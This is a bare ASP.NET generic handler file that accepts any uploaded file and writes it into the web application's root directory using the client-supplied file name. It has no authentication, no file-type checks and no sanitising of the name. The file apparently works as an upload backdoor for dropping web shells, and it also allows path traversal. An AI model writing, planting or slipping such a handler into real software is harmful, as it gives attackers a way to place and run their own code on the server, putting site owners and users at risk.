<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    string f = context.Request.Files[0].FileName;
    context.Request.Files[0].SaveAs(context.Server.MapPath("~/") + f);
  }
  public bool IsReusable { get { return true; } }
}
